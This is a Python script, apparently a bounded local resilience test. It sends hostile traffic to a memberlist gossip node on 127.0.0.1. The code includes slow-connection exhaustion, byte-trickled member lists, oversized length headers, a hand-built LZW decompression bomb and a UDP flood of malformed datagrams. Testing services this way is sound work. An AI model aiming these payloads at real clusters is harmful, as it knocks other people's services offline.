#!/usr/bin/env python3
"""Hostile memberlist peers against one member on 127.0.0.1, for a bounded time.

usage: memberlist_attack.py PORT SECONDS

- silent: TCP connections that connect and never send (a new one every 20 ms, 300 at most);
- tricklers: push-pull streams announcing 10,000 members, one byte every 100 ms;
- huge: an encrypted-stream header announcing 4 GiB, and a compressed stream whose LZW
  payload expands past every limit;
- flood: UDP garbage, CRC-framed packets with bad sums, compounds announcing 255 parts,
  LZW bombs, pings for another name; at most 40,000 datagrams.
Prints one JSON line with what was sent. Stops by itself.
"""
import json
import os
import socket
import struct
import sys
import threading
import time

port = int(sys.argv[1])
seconds = float(sys.argv[2])
deadline = time.time() + seconds
counts = {"silent": 0, "trickled": 0, "huge": 0, "datagrams": 0}
lock = threading.Lock()


def count(key, n=1):
    with lock:
        counts[key] += n


def msgpack_str(b):
    if len(b) < 32:
        return bytes([0xA0 | len(b)]) + b
    return b"\xda" + struct.pack(">H", len(b)) + b


def silent():
    held = []
    while time.time() < deadline and len(held) < 300:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
            held.append(s)
            count("silent")
        except OSError:
            pass
        time.sleep(0.02)
    while time.time() < deadline:
        time.sleep(0.1)
    for s in held:
        s.close()


def trickle():
    # pushPullMsg, then {Join: false, Nodes: 10000, UserStateLen: 0}, then members byte by byte.
    header = b"\x06" + b"\x83" + msgpack_str(b"Join") + b"\xc2" + msgpack_str(b"Nodes") + b"\xcd" + struct.pack(">H", 10000) + msgpack_str(b"UserStateLen") + b"\x00"
    node = b"\x87" + msgpack_str(b"Addr") + msgpack_str(b"\x7f\x00\x00\x01") + msgpack_str(b"Incarnation") + b"\x01" + msgpack_str(b"Meta") + msgpack_str(b"") + msgpack_str(b"Name") + msgpack_str(b"x") + msgpack_str(b"Port") + b"\x01" + msgpack_str(b"State") + b"\x00" + msgpack_str(b"Vsn") + msgpack_str(b"\x01\x05\x02\x02\x05\x05")
    while time.time() < deadline:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
            s.sendall(header)
            data = node * 100
            for b in data:
                if time.time() >= deadline:
                    break
                s.send(bytes([b]))
                time.sleep(0.1)
            s.close()
        except OSError:
            time.sleep(0.2)
        count("trickled")


def huge():
    while time.time() < deadline:
        for payload in (b"\x0a\xff\xff\xff\xff" + b"\x00" * 64, b"\x09\x82" + msgpack_str(b"Algo") + b"\x00" + msgpack_str(b"Buf") + b"\xdb\x7f\xff\xff\xff" + os.urandom(4096)):
            try:
                s = socket.create_connection(("127.0.0.1", port), timeout=2)
                s.sendall(payload)
                s.settimeout(2)
                try:
                    s.recv(1)
                except OSError:
                    pass
                s.close()
                count("huge")
            except OSError:
                pass
        time.sleep(0.2)


def lzw_bomb():
    # Go LSB LZW: clear, literal 0, then codes 258, 259, ... each the previous plus one byte.
    codes = [256, 0] + list(range(258, 258 + 1200)) + [257]
    out, bits, nbits, width, hi = bytearray(), 0, 0, 9, 257
    for i, c in enumerate(codes):
        bits |= c << nbits
        nbits += width
        while nbits >= 8:
            out.append(bits & 0xFF)
            bits >>= 8
            nbits -= 8
        if c != 256:
            hi += 1
            if hi >= (1 << width) and width < 12:
                width += 1
    if nbits:
        out.append(bits & 0xFF)
    return b"\x09\x82" + msgpack_str(b"Algo") + b"\x00" + msgpack_str(b"Buf") + msgpack_str(bytes(out))


def flood():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    bomb = lzw_bomb()
    ping = b"\x00\x82" + msgpack_str(b"Node") + msgpack_str(b"someone-else") + msgpack_str(b"SeqNo") + b"\x01"
    shapes = [
        lambda: os.urandom(64 + os.urandom(1)[0] * 4),
        lambda: b"\x0c\x00\x00\x00\x00" + os.urandom(200),
        lambda: b"\x07\xff" + b"\xff\xff" * 255,
        lambda: bomb,
        lambda: ping,
        lambda: b"\x04\xdf\xff\xff\xff\xff",
    ]
    sent = 0
    while time.time() < deadline and sent < 40000:
        try:
            s.sendto(shapes[sent % len(shapes)](), ("127.0.0.1", port))
        except OSError:
            pass
        sent += 1
        if sent % 200 == 0:
            time.sleep(0.05)
    count("datagrams", sent)


threads = [threading.Thread(target=f) for f in [silent, huge, flood] + [trickle] * 10]
for t in threads:
    t.start()
for t in threads:
    t.join(timeout=seconds + 10)
print(json.dumps(counts), flush=True)
